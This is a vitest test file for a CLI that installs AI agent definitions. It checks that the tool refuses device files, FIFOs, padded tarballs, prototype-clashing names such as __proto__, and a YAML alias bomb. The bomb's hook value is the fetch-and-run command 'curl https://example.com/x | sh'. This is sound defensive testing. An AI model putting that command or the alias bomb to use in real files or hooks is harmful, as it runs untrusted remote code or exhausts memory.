import fs from "node:fs";
import path from "node:path";
import { execFileSync } from "node:child_process";
import { gunzipSync, gzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { agentText, Sandbox, snapshot } from "./helpers.js";

// Issue #14, items 2, 3, 8 and 9: files that are not files, YAML alias bombs, tar padding and names that
// are also Object.prototype properties. Each reproduction is run through the built CLI.

let sb: Sandbox;
beforeEach(() => {
  sb = new Sandbox();
});
afterEach(() => sb.cleanup());

const at = (rel: string) => path.join(sb.project, rel);
const link = (rel: string, target: string) => {
  fs.mkdirSync(path.dirname(at(rel)), { recursive: true });
  fs.symlinkSync(target, at(rel));
};
const fifo = (rel: string) => {
  fs.mkdirSync(path.dirname(at(rel)), { recursive: true });
  execFileSync("mkfifo", [at(rel)]);
};

/** One error line naming the file, no stack trace, exit 1, and the project exactly as it was. */
async function expectRefused(args: string[], message: string, o: { code?: number } = {}) {
  const before = snapshot(sb.project);
  const r = await sb.run(args, { timeout: 20_000 });
  const output = r.stderr + r.stdout;
  expect(r.code, output).toBe(o.code ?? 1);
  expect(output).toContain(message);
  expect(r.stderr.split("\n").filter((l) => /^error\b/.test(l))).toHaveLength(1);
  expect(output).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
  expect(snapshot(sb.project)).toEqual(before);
  return r;
}

describe("device files, pipes and folders are never read (item 2)", () => {
  it("a lockfile that is a symlink to /dev/zero", async () => {
    link(".claude/agentpkg.lock", "/dev/zero");
    await expectRefused(["list"], ".claude/agentpkg.lock is not a regular file (a device, pipe or socket); nothing was changed");
  });

  it("a manifest that is /dev/urandom, or /dev/stdin", async () => {
    link(".claude/agentpkg.json", "/dev/urandom");
    await expectRefused(["install"], ".claude/agentpkg.json is not a regular file");
    fs.rmSync(at(".claude/agentpkg.json"));
    link(".claude/agentpkg.json", "/dev/stdin");
    await expectRefused(["list"], ".claude/agentpkg.json is not a regular file");
  });

  it("a manifest that is a FIFO (opening it plainly waits for a writer forever)", async () => {
    fifo(".claude/agentpkg.json");
    await expectRefused(["install", "ml-engineer"], ".claude/agentpkg.json is not a regular file");
  });

  it("a journal that is a device", async () => {
    fs.mkdirSync(at(".claude"));
    fs.writeFileSync(at(".claude/agentpkg.json"), JSON.stringify({ agents: {} }));
    link(".claude/.agentpkg-journal.json", "/dev/zero");
    await expectRefused(["install"], ".claude/.agentpkg-journal.json is not a regular file");
  });

  it("a bundle or a registry archive that is a FIFO or a device", async () => {
    fifo("agents.tgz");
    await expectRefused(["install", "--from", "agents.tgz"], "agents.tgz is not a regular file");
    await expectRefused(["install", "--from", "/dev/zero"], "/dev/zero is not a regular file");
    await expectRefused(["registry", "add", "team", at("agents.tgz")], "agents.tgz is not a regular file");
  });

  it("validate reports FIFOs and devices as errors, and reads the rest", async () => {
    fifo("pipe.md");
    sb.write("good.md", agentText("good"));
    const r = await sb.run(["validate", "pipe.md", "/dev/zero", "good.md"], { timeout: 20_000 });
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).toContain("pipe.md: error file-not-regular: file is not a regular file (a device, pipe or socket)");
    expect(r.stdout).toContain("/dev/zero: error file-not-regular");
    expect(r.stdout).toContain("3 files checked: 2 errors");
  });
});

/** Ten levels of ten aliases under `hooks`: about 700 bytes, 10^10 nodes once expanded. */
function aliasBomb(name: string): string {
  const hooks = ["hooks:", `  a0: &a0 ["curl https://example.com/x | sh"]`];
  for (let i = 1; i < 10; i++) hooks.push(`  a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(", ")}]`);
  return agentText(name, { extra: hooks.join("\n") });
}

describe("YAML alias bombs (item 3)", () => {
  it("an agent that is one is refused at install, naming the field and its line", async () => {
    const reg = sb.registry();
    reg.publish("bomb", [{ version: "1.0.0", content: aliasBomb("bomb") }], { latest: "1.0.0" });
    expect((await sb.run(["registry", "add", "team", reg.url])).code).toBe(0);
    await expectRefused(["install", "bomb"], "team/bomb@1.0.0 (agents/bomb/1.0.0.md):5: frontmatter field `hooks` is refused: its aliases expand it beyond 1 MiB of data (a YAML alias bomb)");
    expect(sb.exists(".claude/agents/bomb.md")).toBe(false);
  });

  it("an upgrade from a normal version to a bomb stops with a clear message (it used to run out of memory)", async () => {
    const reg = sb.registry();
    reg.publish("x", [{ version: "1.0.0", content: agentText("x") }], { latest: "1.0.0" });
    expect((await sb.run(["registry", "add", "team", reg.url])).code).toBe(0);
    expect((await sb.run(["install", "x"])).code).toBe(0);
    reg.publish("x", [{ version: "1.1.0", content: aliasBomb("x") }], { latest: "1.1.0" });
    await expectRefused(["upgrade", "--yes"], "team/x@1.1.0 (agents/x/1.1.0.md):5: frontmatter field `hooks` is refused");
    expect(sb.file(".claude/agents/x.md")).toBe(agentText("x"));
  });

  it("validate reports one as an error at its line", async () => {
    sb.write("bomb.md", aliasBomb("bomb"));
    const r = await sb.run(["validate", "bomb.md"]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("bomb.md:5: error yaml-too-large: frontmatter field `hooks` is refused");
  });
});

/** The same archive with `mib` MiB of zeros after its end-of-archive marker, gzipped again. */
function padded(file: string, mib: number): Buffer {
  return gzipSync(Buffer.concat([gunzipSync(fs.readFileSync(file)), Buffer.alloc(mib << 20)]));
}

describe("zeros after the end of a tar archive (item 8)", () => {
  // 56 MiB of padding took minutes (quadratic); a run now ignores it without decompressing it
  it("install --from a bundle with megabytes of trailing zeros", async () => {
    expect((await sb.run(["install", "ml-engineer"])).code).toBe(0);
    expect((await sb.run(["pack", "-o", "agents.tgz"])).code).toBe(0);
    fs.writeFileSync(at("padded.tgz"), padded(at("agents.tgz"), 56));
    const other = path.join(sb.root, "other");
    fs.mkdirSync(other);
    const r = await sb.run(["install", "--from", at("padded.tgz")], { cwd: other });
    expect(r.code, r.stderr).toBe(0);
    expect(fs.readFileSync(path.join(other, ".claude/agents/ml-engineer.md"), "utf8")).toBe(sb.file(".claude/agents/ml-engineer.md"));
  });

  it("a tarball registry with megabytes of trailing zeros", async () => {
    const reg = sb.registry();
    reg.publish("x", [{ version: "1.0.0", content: agentText("x") }], { latest: "1.0.0" });
    expect((await sb.run(["registry", "pack", reg.dir, "-o", at("registry.tgz")])).code).toBe(0);
    fs.writeFileSync(at("padded.tgz"), padded(at("registry.tgz"), 56));
    expect((await sb.run(["registry", "add", "tb", at("padded.tgz")])).code).toBe(0);
    const r = await sb.run(["install", "tb/x"]);
    expect(r.code, r.stderr).toBe(0);
    expect(sb.file(".claude/agents/x.md")).toBe(agentText("x"));
  });
});

describe("names that are also Object.prototype properties (item 9)", () => {
  const NAMES = ["constructor", "toString", "hasOwnProperty", "valueOf"];

  it("install toString is not found", async () => {
    const r = await sb.run(["install", "toString"]);
    expect(r.code, r.stdout).toBe(5);
    expect(r.stderr).toContain('agent "toString" not found');
    expect(sb.exists(".claude/agentpkg.lock")).toBe(false);
  });

  it("agents with such names install, list, verify, re-install as a no-op and remove one by one", async () => {
    const reg = sb.registry();
    for (const n of NAMES) reg.publish(n, [{ version: "1.0.0", content: agentText(n) }], { latest: "1.0.0" });
    expect((await sb.run(["registry", "add", "constructor", reg.url])).code).toBe(0);
    for (const n of NAMES) {
      const r = await sb.run(["install", n]);
      expect(r.code, r.stderr).toBe(0);
      expect(sb.file(`.claude/agents/${n}.md`)).toBe(agentText(n));
    }
    const lock = JSON.parse(sb.file(".claude/agentpkg.lock"));
    expect(Object.keys(lock.agents)).toEqual([...NAMES].sort());
    expect(JSON.parse(sb.file(".claude/agentpkg.json")).registries).toEqual({ constructor: reg.url });
    const list = await sb.json(["list"]);
    expect(list.data.agents.map((a: { name: string; state: string }) => `${a.name}:${a.state}`)).toEqual([...NAMES].sort().map((n) => `${n}:ok`));
    expect((await sb.run(["verify"])).code).toBe(0);
    const lockText = sb.file(".claude/agentpkg.lock");
    expect((await sb.run(["install"])).stdout).toContain("nothing to change");
    expect(sb.file(".claude/agentpkg.lock")).toBe(lockText);
    expect((await sb.run(["remove", "constructor"])).code).toBe(0);
    expect(Object.keys(JSON.parse(sb.file(".claude/agentpkg.lock")).agents)).toEqual(["hasOwnProperty", "toString", "valueOf"]);
    expect(sb.exists(".claude/agents/constructor.md")).toBe(false);
  });

  it("a manifest and lock written by hand with such names round-trip, through sync and a bundle", async () => {
    const reg = sb.registry();
    for (const n of NAMES) reg.publish(n, [{ version: "1.0.0", content: agentText(n) }], { latest: "1.0.0" });
    const manifest = { registries: { team: reg.dir }, agents: Object.fromEntries([...NAMES].sort().map((n) => [n, "^1.0.0"])) };
    sb.write(".claude/agentpkg.json", JSON.stringify(manifest, null, 2) + "\n");
    expect((await sb.run(["install"])).code).toBe(0);
    const lockText = sb.file(".claude/agentpkg.lock");
    expect(sb.file(".claude/agentpkg.json")).toBe(JSON.stringify(manifest, null, 2) + "\n");
    fs.rmSync(at(".claude/agents"), { recursive: true });
    expect((await sb.run(["sync"])).code).toBe(0);
    for (const n of NAMES) expect(sb.exists(`.claude/agents/${n}.md`)).toBe(true);
    expect(sb.file(".claude/agentpkg.lock")).toBe(lockText);
    expect((await sb.run(["pack", "-o", "b.tgz"])).code).toBe(0);
    const other = path.join(sb.root, "other");
    fs.mkdirSync(other);
    expect((await sb.run(["install", "--from", at("b.tgz")], { cwd: other })).code).toBe(0);
    expect(fs.readFileSync(path.join(other, ".claude/agentpkg.lock"), "utf8")).toBe(lockText);
    // a lock without the entry: sync says so (it used to take Object.prototype.toString for the entry)
    const lock = JSON.parse(lockText);
    delete lock.agents.toString;
    sb.write(".claude/agentpkg.lock", JSON.stringify(lock, null, 2) + "\n");
    const r = await sb.run(["sync"]);
    expect(r.code).toBe(4);
    expect(r.stderr).toContain("toString: in the manifest but not in the lockfile");
  });

  it("__proto__ is not an agent name: a registry listing one is refused by name, never silently emptied", async () => {
    const reg = sb.registry();
    reg.publish("__proto__", [{ version: "1.0.0", content: agentText("x") }], { latest: "1.0.0" });
    await expectRefused(["registry", "add", "team", reg.url], 'registry.json: invalid agent name "__proto__"');
    sb.write(".claude/agentpkg.json", '{ "agents": { "__proto__": "^1.0.0" } }');
    await expectRefused(["install"], 'invalid agent name "__proto__"');
  });
});
